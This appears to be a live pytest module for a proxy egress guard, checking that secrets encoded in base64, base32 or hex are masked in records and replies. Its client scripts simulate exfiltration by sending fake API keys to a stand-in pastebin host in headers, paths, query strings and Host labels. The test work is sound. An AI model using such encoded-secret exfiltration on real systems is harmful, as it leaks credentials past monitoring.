"""Live (attack17): a key base64-, base32- or hex-encoded around the body of a flow the policy lets through.

Default policy: unlisted hosts are observed and nothing is changed, so `X-Note: <base64 of a key>` to a pastebin
goes out (by policy) and the guard's findings are in the index. The record's scrub read these parts as written:
the `.mitm` kept the key encoded. A guarded host's answer carrying the key encoded in a header reached the agent.
Real mitmdump with the bundle and the shipped rules, httpx through it. Checked: what the upstream received, what
the client got, and every byte the proxy wrote (log, index, .mitm)."""

from __future__ import annotations

import base64
import json
import time

import pytest

from tests import fakes
from tests.live import harness
from tests.live.harness import Reply, run_client

pytestmark = pytest.mark.live

AKID = fakes.aws_key_id(1721)
KEY = fakes.openai_key(1722)


def spellings(value: str) -> dict[str, str]:
    raw = value.encode()
    return {"base64": base64.b64encode(raw).decode(), "base64url": base64.urlsafe_b64encode(raw).decode().rstrip("="),
            "base32": base64.b32encode(raw).decode(), "hex": raw.hex(), "glued-hex": "file-" + raw.hex()}


CASES = {f"{where}-{name}-{label}": (where, spelled)
         for label, value in (("aws", AKID), ("openai", KEY))
         for name, spelled in spellings(value).items()
         for where in ("header", "path", "query")}

CLIENT = """
import json, os, httpx
out = {}
with httpx.Client(timeout=20) as client:
    for name, (where, spelled) in json.loads(os.environ["CASES"]).items():
        headers, path, params = {"x-case": name}, "/paste", {}
        if where == "header":
            headers["x-note"] = "see " + spelled
        elif where == "path":
            path = "/paste/" + spelled
        elif where == "query":
            params["note"] = spelled
        r = client.get("https://unlisted.example" + path, headers=headers, params=params)
        out[name] = {"status": r.status_code}
    r = client.get("https://api.openai.com/v1/models/echo-header")
    out["answer"] = {"status": r.status_code, "headers": dict(r.headers)}
print(json.dumps(out))
"""


def forms(value: str) -> list[str]:
    return [value, value[4:-4], *(s[4:-4] for s in spellings(value).values())]


def test_an_encoded_key_let_through_is_never_recorded_and_an_answers_never_reaches_the_agent(tmp_path, upstream):
    upstream.route("GET", "/v1/models/echo-header", lambda req: Reply(
        200, {"content-type": "application/json", "x-upstream-note": "see " + base64.b64encode(AKID.encode()).decode(),
              "x-trace": "req-" + KEY.encode().hex()}, b"{}"))
    proxy = harness.start_proxy(tmp_path, upstream, "--set", f"exitguard_record_dir={tmp_path / 'rec'}")
    try:
        out = run_client(CLIENT, proxy, CASES=json.dumps(CASES))
        assert {name: r["status"] for name, r in out.items()} == {**dict.fromkeys(CASES, 200), "answer": 200}
        # observed and let through by policy: the unlisted host got each request as it was sent
        assert {r.headers.get("x-case") for r in upstream.received if r.host == "unlisted.example"} == set(CASES)
        secret = forms(AKID) + forms(KEY)
        answer = json.dumps(out["answer"]["headers"])
        assert [f[:10] for f in secret if f in answer] == [], answer
        assert answer.count("[MASKED:") == 2
        time.sleep(0.5)
        assert proxy.stop() == 0
        written = harness.written(tmp_path / "rec")
        written_text = written.decode("utf-8", "replace") + proxy.log
        assert [f[:10] for f in secret if f in written_text] == []
        assert written_text.count("[MASKED:") >= len(CASES)
    finally:
        proxy.stop()


EMAIL = "dana.whitfield@northwind-traders.com"
NOTE = base64.b64encode(f"send it to {EMAIL} tonight".encode()).decode()
CURSOR = base64.b64encode(json.dumps({"after": EMAIL, "n": 50}).encode()).decode()

DATA_CLIENT = """
import json, os, httpx
with httpx.Client(timeout=20) as client:
    r = client.get("https://api.openai.com/v1/models", headers={"x-note": os.environ["NOTE"], "x-case": "data"},
                   params={"q": os.environ["NOTE"], "cursor": os.environ["CURSOR"]})
print(json.dumps({"status": r.status_code}))
"""


def test_an_encoded_email_to_a_guarded_host_is_masked_and_a_cursor_is_not(tmp_path, upstream):
    proxy = harness.start_proxy(tmp_path, upstream, "--set", f"exitguard_record_dir={tmp_path / 'rec'}")
    try:
        assert run_client(DATA_CLIENT, proxy, NOTE=NOTE, CURSOR=CURSOR) == {"status": 200}
        (req,) = [r for r in upstream.received if r.headers.get("x-case") == "data"]
        assert req.headers["x-note"].startswith("[MASKED:") and NOTE[4:-4] not in req.path
        assert f"cursor={CURSOR.replace('=', '%3D')}" in req.path  # JSON inside (a cursor): the client's state
        time.sleep(0.5)
        assert proxy.stop() == 0
        written = harness.written(tmp_path / "rec")
        assert NOTE[4:-4].encode() not in written and EMAIL.encode() not in written
    finally:
        proxy.stop()


HOST_CLIENT = """
import json, os, httpx
out = []
with httpx.Client(timeout=20) as c:
    for label in json.loads(os.environ["LABELS"]):
        out.append(c.get("https://unlisted.example/x", headers={"host": label + ".unlisted.example"}).status_code)
print(json.dumps(out))
"""


def test_an_encoded_key_in_a_host_header_to_an_observed_host_is_not_written(tmp_path, upstream):
    """Names may disagree on an unlisted host; the Host header's name went into the record's destination
    metadata (`claimed`) as it came: hex or base32 (lower-cased, a DNS label) of a key stayed readable."""
    labels = [AKID.encode().hex(), base64.b32encode(AKID.encode()).decode().rstrip("=").lower()]
    proxy = harness.start_proxy(tmp_path, upstream, "--set", f"exitguard_record_dir={tmp_path / 'rec'}")
    try:
        assert run_client(HOST_CLIENT, proxy, LABELS=json.dumps(labels)) == [200, 200]
        time.sleep(0.5)
        assert proxy.stop() == 0
        written = harness.written(tmp_path / "rec")
        text = written.decode("utf-8", "replace").lower() + proxy.log.lower()
        assert [label[:10] for label in labels if label[4:-4] in text] == []
    finally:
        proxy.stop()
